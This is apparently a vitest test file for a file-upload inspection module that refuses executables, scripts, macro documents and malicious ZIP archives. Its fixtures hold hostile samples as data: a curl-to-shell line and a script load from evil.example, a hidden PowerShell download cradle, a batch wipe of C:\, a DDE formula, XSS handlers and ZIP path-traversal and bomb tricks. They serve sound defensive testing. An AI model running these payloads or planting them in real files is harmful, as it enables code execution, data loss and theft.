import { deflateRawSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { INSPECTED_FIRST_BYTES, inspectContent, type ByteSource } from './inspection';
import { TEXT_SLICE_BYTES } from './text-inspection';
import { ZIP_MAX_ENTRIES } from './zip-directory';
import { docxOf, odtOf, zipOf } from './zip-fixture';

const DOCX = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const ODT = 'application/vnd.oasis.opendocument.text';

const bytes = (...parts: (number[] | string | Uint8Array)[]) =>
  new Uint8Array(Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part) : Buffer.from(part)))));

/** The stored object, recording every range read. */
function sourceOf(content: Uint8Array) {
  const reads: [offset: number, length: number][] = [];
  const source: ByteSource = {
    size: content.length,
    firstBytes: content.subarray(0, INSPECTED_FIRST_BYTES),
    read: async (offset, length) => {
      expect(offset + length).toBeLessThanOrEqual(content.length);
      reads.push([offset, length]);
      return content.subarray(offset, offset + length);
    },
  };
  return { source, reads };
}
const inspect = (declared: string, content: Uint8Array) => inspectContent(declared, sourceOf(content).source);
const ruleOf = async (declared: string, content: Uint8Array) => (await inspect(declared, content))?.rule ?? null;

// Real headers, cut short: all the inspection reads.
const PE = bytes('MZ', [0x90, 0, 3, 0, 0, 0, 4, 0, 0, 0, 0xff, 0xff], new Uint8Array(48), [0x40, 0, 0, 0], 'PE\0\0', [0x4c, 0x01]);
const ELF = bytes([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0], new Uint8Array(8), [2, 0, 0x3e, 0]);
const MACH_O = bytes([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0]);
const FAT_OR_CLASS = bytes([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 0x34]);
const OLE = bytes([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Uint8Array(24));
const PNG = bytes([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 13], 'IHDR', [0, 0, 2, 0x80, 0, 0, 1, 0xe0, 8, 6, 0, 0, 0]);
const GIF = bytes('GIF89a', [0x40, 0x01, 0xf0, 0x00, 0xf7, 0, 0]);
const PDF = bytes('%PDF-1.7\n1 0 obj << /Type /Catalog >> endobj\n%%EOF\n');
const HTML = bytes(
  '<!DOCTYPE html>\n<html><head><title>Facture</title></head><body><script>location="https://evil.example"</script></body></html>',
);
const SVG = bytes('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.cookie)"><rect/></svg>');
const text = (content: string) => bytes(content);

describe('inspectContent: executables and scripts whatever the declared type', () => {
  it.each([
    ['a Windows PE (exe, dll)', PE],
    ['an ELF binary', ELF],
    ['a Mach-O binary', MACH_O],
    ['a Mach-O fat binary or a Java class', FAT_OR_CLASS],
    ['an OLE compound file (legacy Office with macros, MSI)', OLE],
    ['a shell script', text('#!/bin/sh\ncurl https://evil.example | sh\n')],
    ['an HTML page', HTML],
    ['an SVG image with an event handler', SVG],
  ])('refuses %s declared as text, image, PDF or ZIP', async (_, content) => {
    for (const declared of ['text/plain', 'text/csv', 'image/png', 'image/gif', 'application/pdf', 'application/zip', DOCX]) {
      expect(await ruleOf(declared, content), declared).toBe('fileForbidden');
    }
  });

  it('tells a text that starts with "MZ" or "#!" from a program', async () => {
    expect(await ruleOf('text/plain', text('MZ Équipements inc.\nListe des prix\n'))).toBeNull();
    expect(await ruleOf('text/plain', text('#!important: check the fridge\n'))).toBeNull();
  });
});

describe('inspectContent: text and CSV, read whole', () => {
  it('accepts UTF-8 text and CSV with accents, numbers and ordinary formulas', async () => {
    expect(await ruleOf('text/plain', text('\ufeffFour à convection, 2 portes.\r\nPrix : 1 200 $\n\tÀ voir.\f'))).toBeNull();
    expect(await ruleOf('text/csv', text('article;prix;total\nfour;-1200;=SUM(B2:B3)\n"a | b";+5;@x\n'))).toBeNull();
  });

  it.each([
    ['an HTML page renamed .txt', '<!doctype html><p>Bonjour</p>'],
    ['a script tag in the middle', `Notes de la visite\n${'ligne\n'.repeat(200)}<script src="https://evil.example/x.js"></script>`],
    ['an event handler', 'voir <img src=x onerror=alert(1)>'],
    ['a javascript: URL', 'cliquez: JavaScript:alert(1)'],
    ['VBScript', 'Set s = CreateObject("WScript.Shell")\ns.Run "calc"'],
    ['PowerShell', 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x\')"'],
    ['an encoded PowerShell command', 'pwsh -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA'],
    ['a command launcher', 'lancer: cmd.exe /c start calc'],
    ['a batch file', 'rem nettoyage\r\n  @ECHO OFF\r\ndel /q C:\\*\r\n'],
    ['a spreadsheet DDE formula', "nom,montant\nfour,=cmd|' /C calc'!A0\n"],
  ])('refuses %s as fileForbidden', async (_, content) => {
    expect(await inspect('text/plain', text(content))).toMatchObject({ rule: 'fileForbidden' });
    expect(await ruleOf('text/csv', text(content))).toBe('fileForbidden');
  });

  it('calls binary content declared as text a mismatch (fileContent), not a danger', async () => {
    expect(await ruleOf('text/plain', bytes('Prix', [0xff, 0xfe, 0x00], 'x'))).toBe('fileContent'); // not UTF-8
    expect(await ruleOf('text/plain', bytes('Prix\0\0\0'))).toBe('fileContent');
    expect(await ruleOf('text/csv', PNG)).toBe('fileContent');
    expect(await ruleOf('text/plain', PDF)).toBe('fileContent');
  });

  it('reads a long text in slices, seeing a marker cut by a slice boundary and a multibyte character cut by one', async () => {
    const harmless = text(`${'é'.repeat(TEXT_SLICE_BYTES / 2 - 1)}x${'é'.repeat(10)}`); // "é" straddles the boundary
    const { source, reads } = sourceOf(harmless);
    expect(await inspectContent('text/plain', source)).toBeNull();
    expect(reads).toEqual([
      [0, TEXT_SLICE_BYTES],
      [TEXT_SLICE_BYTES, harmless.length - TEXT_SLICE_BYTES],
    ]);
    const hidden = text(`${'é'.repeat(TEXT_SLICE_BYTES / 2 - 2)}<script>alert(1)</script>`);
    expect(Buffer.from(hidden.subarray(TEXT_SLICE_BYTES - 4, TEXT_SLICE_BYTES)).toString()).toBe('<scr'); // cut by the boundary
    expect(await ruleOf('text/plain', hidden)).toBe('fileForbidden');
  });
});

describe('inspectContent: images and PDF by their signature', () => {
  it('accepts what the bytes are, and calls anything else a mismatch', async () => {
    expect(await ruleOf('image/png', PNG)).toBeNull();
    expect(await ruleOf('image/gif', GIF)).toBeNull();
    expect(await ruleOf('application/pdf', PDF)).toBeNull();
    expect(await inspect('image/jpeg', PNG)).toMatchObject({ rule: 'fileContent', reason: 'image/png declared as image/jpeg' });
    expect(await ruleOf('application/pdf', text('Just text'))).toBe('fileContent');
    expect(await ruleOf('image/png', docxOf())).toBe('fileContent');
  });
});

describe('inspectContent: ZIP archives and office documents', () => {
  const photo = { name: 'photos/four.png', data: PNG };
  const manual = { name: 'Manuel d’utilisation.pdf', data: PDF, deflate: true };

  it('accepts a ZIP of pictures and PDFs, a Word document and an OpenDocument text, as what they are', async () => {
    expect(await ruleOf('application/zip', zipOf([photo, manual, { name: 'photos/', data: '' }]))).toBeNull();
    expect(await ruleOf(DOCX, docxOf({ name: 'word/media/image1.png', data: PNG }))).toBeNull();
    expect(await ruleOf(ODT, odtOf())).toBeNull();
    expect(await ruleOf('application/zip', docxOf())).toBeNull(); // a document is a ZIP archive too
    expect(await ruleOf('application/zip', zipOf([]))).toBeNull();
  });

  it('calls a document that is another document, or a mere archive, a mismatch', async () => {
    expect(await inspect(XLSX, docxOf())).toMatchObject({ rule: 'fileContent', reason: `${DOCX} declared as ${XLSX}` });
    expect(await ruleOf(DOCX, zipOf([photo]))).toBe('fileContent');
    expect(await ruleOf(ODT, docxOf())).toBe('fileContent');
  });

  it.each([
    ['an .exe entry', zipOf([photo, { name: 'setup.exe', data: PE }])],
    ['a script entry of a harmless look', zipOf([{ name: 'Factures/facture.pdf.js', data: 'WScript.Echo(1)' }])],
    ['an entry whose name hides its extension with a direction override', zipOf([{ name: 'facture\u202efdp.exe', data: PE }])],
    ['an executable named as a picture (by its content, deflated)', zipOf([photo, { name: 'photo.jpg', data: PE, deflate: true }])],
    ['an HTML page named as text', zipOf([{ name: 'lisez-moi.txt', data: HTML, deflate: true }])],
    ['an SVG picture', zipOf([{ name: 'logo.svg', data: SVG }])],
    ['a shortcut', zipOf([{ name: 'Documents.lnk', data: bytes([0x4c, 0, 0, 0, 1, 0x14, 2, 0], new Uint8Array(8)) }])],
    ['a nested archive by name', zipOf([{ name: 'more.zip', data: 'whatever' }])],
    ['a nested archive by content', zipOf([{ name: 'data.bin', data: zipOf([photo]) }])],
    ['a gzip inside', zipOf([{ name: 'backup.dat', data: bytes([0x1f, 0x8b, 8, 0], new Uint8Array(8)) }])],
    ['an encrypted entry', zipOf([{ name: 'secret.pdf', data: 'encrypted bytes', encrypted: true }])],
    ['an entry outside the folder', zipOf([{ name: '../../.bashrc', data: 'echo hi' }])],
    ['a macro-enabled Word document (vbaProject.bin)', docxOf({ name: 'word/vbaProject.bin', data: OLE, deflate: true })],
    ['a Word document with an embedded OLE object', docxOf({ name: 'word/embeddings/oleObject1.bin', data: OLE, deflate: true })],
    ['an OpenDocument with Basic macros', odtOf({ name: 'Basic/Standard/Module1.xml', data: '<script:module/>', deflate: true })],
  ])('refuses %s as fileForbidden', async (_, archive) => {
    expect(await ruleOf('application/zip', archive)).toBe('fileForbidden');
  });

  it('refuses a document whose parts hide a macro under the document type it claims', async () => {
    expect(await ruleOf(DOCX, docxOf({ name: 'word/vbaProject.bin', data: OLE }))).toBe('fileForbidden');
    expect(await ruleOf(ODT, odtOf({ name: 'Scripts/python/run.py', data: 'import os' }))).toBe('fileForbidden');
  });

  it('refuses a directory too large to read, ZIP64, and a decompression bomb; a broken archive is a mismatch', async () => {
    const many = zipOf(Array.from({ length: ZIP_MAX_ENTRIES + 1 }, (_, index) => ({ name: `${index}.txt`, data: 'a' })));
    expect(await inspect('application/zip', many)).toMatchObject({
      rule: 'fileForbidden',
      reason: expect.stringMatching(/directory too large/),
    });

    const zip64 = Buffer.from(zipOf([photo]));
    zip64.writeUInt16LE(0xffff, zip64.length - 22 + 8);
    zip64.writeUInt16LE(0xffff, zip64.length - 22 + 10);
    expect(await ruleOf('application/zip', zip64)).toBe('fileForbidden');

    const bomb = Buffer.from(zipOf([{ name: 'zeros.csv', data: deflateRawSync(Buffer.alloc(1000)), deflate: false }]));
    const directoryAt = bomb.readUInt32LE(bomb.length - 22 + 16);
    bomb.writeUInt32LE(0x7fffffff, directoryAt + 24); // claims 2 GB unpacked
    expect(await inspect('application/zip', bomb)).toMatchObject({ rule: 'fileForbidden', reason: expect.stringMatching(/unpacks to/) });

    const archive = zipOf([photo, manual]);
    expect(await ruleOf('application/zip', archive.subarray(0, archive.length - 30))).toBe('fileContent'); // cut
    expect(await ruleOf('application/zip', bytes(PE.subarray(0, 0), archive.subarray(0, 4), 'not a zip after all'))).toBe('fileContent');
    const prefixed = bytes(archive.subarray(0, 4), archive); // data before the archive moves every offset
    expect(await ruleOf('application/zip', prefixed)).toBe('fileContent');
  });

  it('reads the directory from the tail and the entries by their starts, never the whole archive', async () => {
    const big = new Uint8Array(3 * 1024 * 1024).map((_, index) => (index * 7919) % 251);
    const archive = zipOf([photo, { name: 'video.bin', data: big }, manual], 'commentaire');
    const { source, reads } = sourceOf(archive);
    expect(await inspectContent('application/zip', source)).toBeNull();
    expect(reads[0]).toEqual([archive.length - (22 + 0xffff), 22 + 0xffff]);
    const total = reads.reduce((sum, [, length]) => sum + length, 0);
    expect(total).toBeLessThan(200_000);
    expect(reads.every(([, length]) => length <= 1024 * 1024 + 0xffff)).toBe(true);
  });
});
